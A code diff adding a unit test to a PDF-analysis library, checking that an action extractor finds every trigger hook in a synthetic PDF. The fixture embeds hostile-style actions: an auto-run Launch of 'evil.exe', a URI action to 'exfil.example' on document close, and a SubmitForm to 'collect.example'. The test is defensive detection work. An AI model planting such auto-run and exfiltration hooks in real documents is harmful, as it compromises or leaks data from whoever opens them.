@@ -1680,3 +1680,44 @@ def test_html_v17_base_want_projection():
     stats = process_document(html, want_text=False)
     assert stats.base_href is None
     assert process_document(PDF_RECIPES["pdf_minimal"]()).base_href is None
+
+
+def test_action_census_covers_every_hook():
+    """extract_actions must see OpenAction /Next chains, catalog /AA,
+    annotation /A, and outline-item /A, with per-subtype targets."""
+    from caraspark.pdfengine.document import extract_actions, load_document
+    from caraspark.synth import _assemble, _base_objects, _obj
+
+    bodies = _base_objects(b"BT (x) Tj ET")
+    bodies[1] = _obj(
+        1,
+        b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R"
+        b" /OpenAction << /S /Launch /F (evil.exe)"
+        b" /Next << /S /Named /N /NextPage >> >>"
+        b" /AA << /WC << /S /URI /URI (https://exfil.example/x) >> >> >>",
+    )
+    bodies[3] = _obj(
+        3,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
+        b" /Contents 4 0 R /Annots [5 0 R] >>",
+    )
+    bodies[5] = _obj(
+        5,
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
+        b" /A << /S /GoToR /F (other.pdf) /D (sec1) >> >>",
+    )
+    bodies[6] = _obj(6, b"<< /Type /Outlines /First 7 0 R /Count 1 >>")
+    bodies[7] = _obj(
+        7,
+        b"<< /Title (chap) /Parent 6 0 R"
+        b" /A << /S /SubmitForm /F << /FS /URL"
+        b" /F (https://collect.example/p) >> >> >>",
+    )
+    rows = extract_actions(load_document(_assemble(bodies)))
+    got = {(r["source"], r["s"]): r["target"] for r in rows}
+    assert got[("OpenAction", "Launch")] == "evil.exe"
+    assert got[("OpenAction", "Named")] == "NextPage"
+    assert got[("AA:WC", "URI")] == "https://exfil.example/x"
+    assert got[("Annot:0.0:A", "GoToR")] == "other.pdf"
+    assert got[("Outline:0:A", "SubmitForm")] == "https://collect.example/p"
+    assert [r["pos"] for r in rows] == list(range(len(rows)))
